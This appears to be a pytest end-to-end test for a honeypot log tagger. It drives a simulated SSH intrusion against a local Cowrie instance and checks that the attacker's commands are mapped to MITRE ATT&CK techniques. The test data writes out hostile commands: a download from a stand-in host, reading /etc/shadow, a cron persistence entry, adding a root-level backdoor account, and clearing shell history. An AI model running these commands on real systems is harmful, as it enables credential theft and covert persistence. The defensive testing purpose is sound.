"""From an attack on a real honeypot to stored tags: Cowrie writes the log, nothing of ours helps it."""

from __future__ import annotations

import asyncio
import json
import os
from typing import TYPE_CHECKING, Any

import asyncssh
import pytest

from tests.cli.forked import run_forked
from tests.cowrie_lab import CowrieLab, require_cowrie, run_command, running_cowrie

if TYPE_CHECKING:
    from pathlib import Path

pytestmark = [pytest.mark.e2e, pytest.mark.timeout(120)]

ATTACK = {
    "uname -a; cat /proc/cpuinfo": "T1082",
    "whoami": "T1033",
    "cat /etc/passwd": "T1087.001",
    "wget http://203.0.113.7/x.sh -O /tmp/x.sh": "T1105",
    "cat /etc/shadow": "T1003.008",
    "(crontab -l; echo '* * * * * /tmp/x.sh') | crontab -": "T1053.003",
    "echo 'backup2:x:0:0::/root:/bin/sh' >> /etc/passwd": "T1136.001",
    "history -c": "T1070.003",
}
"""What the visitor types, and the technique that a person would name for it."""


async def attack(lab: CowrieLab) -> None:
    for guess in ("letmein", "hunter2"):
        with pytest.raises(asyncssh.PermissionDenied):
            await asyncssh.connect(
                lab.address, lab.ssh_port, username="root", password=guess, known_hosts=None, config=None
            )
    async with asyncssh.connect(
        lab.address, lab.ssh_port, username="root", password="Summer2024!", known_hosts=None, config=None
    ) as connection:
        for command in ATTACK:
            await run_command(connection, command)


@pytest.fixture(scope="module")
def log(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The log that a real Cowrie wrote of the attack."""
    require_cowrie()
    with running_cowrie(tmp_path_factory.mktemp("cowrie"), sensor="e2e") as lab:
        asyncio.run(attack(lab))
        lab.wait_for("cowrie.session.closed", count=3)
    return lab.log


def tag(log: Path, data: Path) -> dict[str, Any]:
    environment = os.environ | {"DECNET_DATA_DIR": str(data)}
    done = run_forked(
        ["ttp", "tag", "--json", "--again", str(log)], stdin="", folder=log.parent, environment=environment
    )
    assert done.returncode == 0, done.stderr
    found: dict[str, Any] = json.loads(done.stdout)
    return found


def test_every_step_of_the_attack_is_tagged(log: Path, tmp_path: Path) -> None:
    seen = {row["sub_technique_id"] or row["technique_id"] for row in tag(log, tmp_path)["techniques"]}
    assert set(ATTACK.values()) <= seen


def test_the_attack_is_one_attacker_with_three_sessions(log: Path, tmp_path: Path) -> None:
    result = tag(log, tmp_path)
    assert [attacker["address"] for attacker in result["attackers"]] == ["127.0.0.1"]
    assert result["totals"]["sessions"] == 3
    assert result["files"][0]["refused"] == []


def test_tagging_the_attack_twice_adds_nothing(log: Path, tmp_path: Path) -> None:
    first, second = tag(log, tmp_path), tag(log, tmp_path)
    assert first["files"][0]["new_tags"] > 0
    assert second["files"][0]["new_tags"] == second["files"][0]["new_events"] == 0
    assert second["techniques"] == first["techniques"]
